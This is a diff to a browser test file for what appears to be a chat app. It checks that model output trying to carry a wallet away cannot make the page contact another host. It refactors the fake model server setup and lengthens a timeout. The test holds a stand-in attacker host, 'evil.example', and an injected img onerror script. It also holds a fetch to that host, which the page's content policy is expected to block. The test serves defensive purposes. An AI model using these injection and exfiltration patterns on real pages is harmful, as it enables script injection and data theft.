@@ -1,17 +1,8 @@
 // Words of a model that would carry a wallet away: the screen asks no other host for anything, whatever it is shown.
 import assert from 'node:assert/strict'
-import { type ModelServer, startModelServer } from '../fakes/model-server.ts'
-import { expect, test } from '../support/desk.ts'
+import { askingModel, expect, test } from '../support/desk.ts'
 
-const MODEL_PORT = 45_879
-let model: ModelServer
-test.use({
-  deskEnv: { OPENAI_BASE_URL: `http://127.0.0.1:${MODEL_PORT}/v1`, OPENAI_API: 'chat', OPENAI_MODEL: 'fake' },
-})
-test.beforeAll(async () => {
-  model = await startModelServer({ port: MODEL_PORT })
-})
-test.afterAll(() => model.close())
+test.use(askingModel())
 
 const AWAY = 'https://evil.example'
 const LURES = [
@@ -87,7 +78,7 @@ test('were words ever more than words, the policy of the page would still let no
     script.innerHTML = '<img src="data:," onerror="window.ran = true">'
     document.body.append(script)
     await fetch(`${away}/fetch`).catch(() => {})
-    const until = Date.now() + 5_000
+    const until = Date.now() + 15_000
     while (refused.length < 5 && Date.now() < until) await new Promise((r) => setTimeout(r, 20))
     return { refused: [...new Set(refused)].sort(), ran: 'ran' in window }
   }, AWAY)
